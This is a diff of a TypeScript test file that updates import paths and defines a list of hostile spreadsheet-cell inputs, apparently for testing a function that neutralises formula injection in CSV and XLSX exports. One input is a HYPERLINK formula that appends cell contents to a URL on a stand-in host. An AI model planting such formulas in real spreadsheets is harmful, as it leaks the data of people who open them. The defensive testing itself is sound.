@@ -1,10 +1,10 @@
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { TEMPLATE_FIELDS, type TemplateColumn } from '../../lib/contracts/exchange.ts';
-import { writeBatchCsv, writeBatchXlsx, type BatchLine } from '../modules/exchange/exchange.files.ts';
-import { lapseWorkbook, billsWorkbook } from '../modules/billing/billing.export.ts';
-import { csvText, neutralise } from './spreadsheet-writer.ts';
+import { TEMPLATE_FIELDS, type TemplateColumn } from '../../../lib/contracts/exchange.ts';
+import { writeBatchCsv, writeBatchXlsx, type BatchLine } from '../../modules/exchange/exchange.files.ts';
+import { lapseWorkbook, billsWorkbook } from '../../modules/billing/billing.export.ts';
+import { csvText, neutralise } from './writer.ts';
 
 const HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"klik")', '+62-1', '-2+3', '@SUM(A1)', '\tTab', '\rCR'];
 
